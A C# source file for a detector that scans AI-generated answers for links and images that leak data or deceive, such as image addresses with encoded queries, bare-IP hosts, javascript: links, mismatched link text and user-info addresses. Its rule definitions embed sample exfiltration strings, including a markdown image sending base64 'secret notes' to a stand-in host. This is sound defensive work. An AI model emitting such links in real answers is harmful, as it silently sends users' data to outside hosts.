using System.Buffers;

namespace Gatehouse.Core.Guards;

/// <summary>
/// Finds addresses in an answer that carry data out or deceive: images are fetched as soon as they are shown, so what
/// stands in their address is sent without a click.
/// </summary>
public sealed class LinkDetector : TextDetector
{
    private const int TextMax = 300, AddressMax = 4_096, TagMax = 6_000;

    private static readonly TextRule Image = new("links/image-data", 1, "an image whose address carries data",
        "![x](https://c.example/p.png?q=" + "bXkgc2VjcmV0IG5vdGVz)", "OWASP LLM02");

    private static readonly TextRule ImageHost = new("links/image-host", 1, "an image from a bare or disguised host",
        "![x](http://203.0.113.7/p.png)", "RFC 3986, RFC 5891");

    private static readonly TextRule Data = new("links/address-data", 1, "an address with long data in its query",
        "https://c.example/?d=" + "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBub3RlIGZvciB5b3U1", "OWASP LLM02");

    private static readonly TextRule Script = new("links/script", 1, "a link that runs something",
        "[open](javascript:alert(1))", "WHATWG URL, RFC 2397");

    private static readonly TextRule OtherHost = new("links/other-host", 1,
        "a link that shows another host than its own",
        "[https://bank.example.com](https://login.example.net/x)", "CWE-451");

    private static readonly TextRule User = new("links/user-info", 1, "an address with a name before its host",
        "https://bank.example@203.0.113.7/login", "RFC 3986 section 7.6");

    private static readonly Keywords Words = new(
        ["[", "![", "<img", "<a ", "<iframe", "<video", "<audio", "<embed", "<source", "<object", "http://",
            "https://"]);

    private static readonly SearchValues<char> AddressChars = SearchValues.Create(
        [.. Enumerable.Range(33, 94).Select(code => (char)code).Where(one => !"\"'<>`)]}\\|^".Contains(one))]);

    // Those of the ends of images' names are among them.
    private static readonly SearchValues<char> HexChars = SearchValues.Create("0123456789abcdefABCDEF-.pngjs");
    private static readonly SearchValues<char> NumericChars = SearchValues.Create("0123456789.");

    // Hosts that people write without a scheme; names of files end otherwise.
    private static readonly HashSet<string> Domains = new(
        ["com", "org", "net", "de", "fr", "es", "it", "uk", "eu", "gov", "edu", "io", "at", "ch", "nl", "be", "us",
            "info"],
        StringComparer.OrdinalIgnoreCase);

    /// <inheritdoc/>
    public override IReadOnlyList<TextRule> Rules { get; } = [Image, ImageHost, Data, Script, OtherHost, User];

    /// <inheritdoc/>
    public override int NextAnchor(ref TextCursor text, int from) => Words.Next(ref text, from);

    /// <inheritdoc/>
    public override int Match(ref TextCursor text, int anchor, List<Found> found) => text[anchor] switch
    {
        '<' => Tag(ref text, anchor, found),
        '!' or '[' => Markdown(ref text, anchor, found),
        _ => Bare(ref text, anchor, found),
    };

    private static int Bare(ref TextCursor text, int anchor, List<Found> found)
    {
        var end = text.Skip(anchor, AddressChars, AddressMax);
        if (Judge(text.Text[anchor..end], default, isImage: false) is { } rule)
            found.Add(new Found(rule, anchor, end - anchor));
        return end;
    }

    // [text](address "title"), ![text](address) and [name]: address.
    private static int Markdown(ref TextCursor text, int anchor, List<Found> found)
    {
        var isImage = text[anchor] == '!';
        var start = anchor + (isImage ? 2 : 1);
        var close = start;
        while (close < start + TextMax && text[close] is not (']' or '[' or '\n' or '\0'))
            close++;
        if (text[close] != ']' || text[close + 1] is not ('(' or ':'))
            return anchor + 1;
        var at = close + 2;
        while (at < close + 8 && text[at] is ' ' or '<')
            at++;
        var end = text.Skip(at, AddressChars, AddressMax);
        if (end == at || Judge(text.Text[at..end], text.Text[start..close], isImage) is not { } rule)
            return end > at ? end : anchor + 1;
        if (text[end] == ')')
            end++;
        found.Add(new Found(rule, anchor, end - anchor));
        return end;
    }

    private static int Tag(ref TextCursor text, int anchor, List<Found> found)
    {
        var isLink = text[anchor + 2] == ' ' && char.ToLowerInvariant(text[anchor + 1]) == 'a';
        var end = anchor + 1;
        while (end < anchor + TagMax && text[end] is not ('>' or '<' or '\0'))
            end++;
        if (text[end] == '\0' && end >= text.Text.Length)
            return Math.Min(end, anchor + 2);
        var shown = end + 1;
        if (isLink && text[end] == '>')
        {
            while (shown < end + TextMax && text[shown] is not ('<' or '\n' or '\0'))
                shown++;
        }

        var tag = text.Text[anchor..end];
        foreach (var name in (ReadOnlySpan<string>)["src", "href", "data", "poster", "srcset"])
        {
            var at = 0;
            while (tag[at..].IndexOf(name, StringComparison.OrdinalIgnoreCase) is >= 0 and var next)
            {
                at += next + name.Length;
                var value = tag[at..].TrimStart();
                if (value.IsEmpty || value[0] != '=')
                    continue;
                value = value[1..].TrimStart();
                var quote = value.IsEmpty ? '\0' : value[0];
                value = quote is '"' or '\'' ? value[1..] : value;
                var stop = quote is '"' or '\'' ? value.IndexOf(quote) : value.IndexOf(' ');
                var seen = isLink && shown > end ? text.Text[(end + 1)..Math.Min(shown, text.Text.Length)] : default;
                if (Judge(stop < 0 ? value : value[..stop], seen, !isLink) is not { } rule)
                    continue;
                found.Add(new Found(rule, anchor, Math.Min(end + 1, text.Text.Length) - anchor));
                return end + 1;
            }
        }

        return end;
    }

    private static TextRule? Judge(ReadOnlySpan<char> address, ReadOnlySpan<char> shown, bool isImage)
    {
        if (address.StartsWith("javascript:", StringComparison.OrdinalIgnoreCase)
            || address.StartsWith("vbscript:", StringComparison.OrdinalIgnoreCase)
            || address.StartsWith("data:", StringComparison.OrdinalIgnoreCase)
            && !(isImage && address.StartsWith("data:image/", StringComparison.OrdinalIgnoreCase)
                && !address.StartsWith("data:image/svg", StringComparison.OrdinalIgnoreCase)))
        {
            return Script;
        }

        var scheme = address.IndexOf("//", StringComparison.Ordinal);
        if (scheme < 0 || scheme > 8)
            return null;
        var rest = address[(scheme + 2)..];
        var slash = rest.IndexOfAny("/?#");
        var authority = slash < 0 ? rest : rest[..slash];
        var tail = slash < 0 ? default : rest[slash..];
        if (authority.Contains('@'))
            return User;
        var host = Host(authority);
        var hidden = Host(shown);
        if (!isImage && !host.IsEmpty && !hidden.IsEmpty && !IsSame(host, hidden))
            return OtherHost;
        if (isImage && (host.StartsWith("xn--", StringComparison.OrdinalIgnoreCase)
            || host.Contains(".xn--", StringComparison.OrdinalIgnoreCase) || !host.IsEmpty
            && IsNumeric(host) || authority.StartsWith('[')))
        {
            return ImageHost;
        }

        return Carries(tail, isImage) ? isImage ? Image : Data : null;
    }

    // The host of an address, or of a text that shows one; empty for other texts.
    private static ReadOnlySpan<char> Host(ReadOnlySpan<char> text)
    {
        text = text.Trim(" *`_");
        var scheme = text.IndexOf("://", StringComparison.Ordinal);
        var isAddress = scheme is 4 or 5 || text.StartsWith("www.", StringComparison.OrdinalIgnoreCase);
        if (scheme is 4 or 5)
            text = text[(scheme + 3)..];
        var end = text.IndexOfAny("/?#:");
        if (end >= 0)
            text = text[..end];
        if (text.StartsWith("www.", StringComparison.OrdinalIgnoreCase))
            text = text[4..];
        foreach (var character in text)
        {
            if (!char.IsLetterOrDigit(character) && character is not ('.' or '-'))
                return default;
        }

        var point = text.LastIndexOf('.');
        if (point <= 0)
            return default;
        return isAddress || char.IsAsciiDigit(text[^1])
            && IsNumeric(text) && text.Count('.') == 3
            || Domains.GetAlternateLookup<ReadOnlySpan<char>>().Contains(text[(point + 1)..])
            || text.Contains("xn--", StringComparison.OrdinalIgnoreCase) ? text : default;
    }

    private static bool IsSame(ReadOnlySpan<char> one, ReadOnlySpan<char> other)
    {
        if (one.Length < other.Length)
            return IsSame(other, one);
        return one.EndsWith(other, StringComparison.OrdinalIgnoreCase)
            && (one.Length == other.Length || one[^(other.Length + 1)] == '.');
    }

    private static bool Carries(ReadOnlySpan<char> tail, bool isImage)
    {
        var query = tail.IndexOf('?');
        var path = query < 0 ? tail : tail[..query];
        if (isImage)
        {
            foreach (var part in path.Split('/'))
            {
                // Pieces of a text, or of base 64: names of images are short, and hashes are hexadecimal.
                var name = path[part];
                if (name.Length >= 48 && !IsHex(name)
                    || name.Length >= 24 && name.Contains("%20", StringComparison.Ordinal))
                {
                    return true;
                }
            }
        }

        if (query < 0)
            return false;
        foreach (var part in tail[(query + 1)..].SplitAny('&', ';', '#'))
        {
            var pair = tail[(query + 1)..][part];
            var value = pair[(pair.IndexOf('=') + 1)..];
            if (isImage ? value.Length >= 12 && !IsHex(value) || value.Length >= 40
                : value.Length >= 40 && SecretChecks.Entropy(value) >= 3.6 && IsCoded(value))
            {
                return true;
            }
        }

        return false;
    }

    // One unbroken piece of base 64 or hexadecimal, without the marks between words.
    private static bool IsCoded(ReadOnlySpan<char> value)
    {
        var run = 0;
        foreach (var character in value)
        {
            run = char.IsAsciiLetterOrDigit(character) || character == '_' ? run + 1 : 0;
            if (run >= 32)
                return true;
        }

        return false;
    }

    private static bool IsHex(ReadOnlySpan<char> value) => value.IndexOfAnyExcept(HexChars) < 0;

    private static bool IsNumeric(ReadOnlySpan<char> host) => host.IndexOfAnyExcept(NumericChars) < 0;
}
